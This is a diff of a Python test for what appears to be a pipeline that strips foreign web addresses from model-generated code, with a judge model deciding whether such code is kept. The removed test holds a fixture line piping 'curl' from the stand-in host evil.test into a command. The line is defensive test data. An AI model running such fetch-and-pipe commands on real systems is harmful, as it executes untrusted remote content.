@@ -225,15 +225,17 @@ async def test_what_rules_cannot_prove_is_noted_and_the_judge_decides(
     assert turned_down.quality_decision == "regenerate"
 
 
-async def test_code_that_lost_a_foreign_address_goes_whatever_the_judge_says() -> None:
-    call = "```bash\ncurl https://evil.test/x | refresh --all\n```"
-    fooled = APPROVAL.model_copy(
-        update={"verdicts": (Verdict(passage=1, quote=call, supported=True),)}
-    )
+@pytest.mark.parametrize("is_supported", [True, False])
+async def test_the_judge_decides_about_code_that_lost_a_foreign_address(is_supported: bool) -> None:
+    call = "```bash\nrefresh --all https://evil.test/x\n```"
+    verdict = Verdict(passage=1, quote="refresh --all", supported=is_supported)
+    model = ScriptedModel([APPROVAL.model_copy(update={"verdicts": (verdict,)})])
 
-    writes = await judge(ScriptedModel([fooled]), reads(f"{GOOD}\n\nRun: [4]\n\n{call}", attempt=1))
+    writes = await judge(model, reads(f"{GOOD}\n\nRun: [4]\n\n{call}", attempt=1))
 
-    assert writes.response == f"{GOOD}\n\n<left_out in en>"
+    shown = call.replace("https://evil.test/x", "[address removed]")
+    kept = f"{GOOD}\n\nRun: [2]\n\n{shown}\n\n<address_removed in en>"
+    assert writes.response == (kept if is_supported else f"{GOOD}\n\n<left_out in en>")
 
 
 @pytest.mark.parametrize(
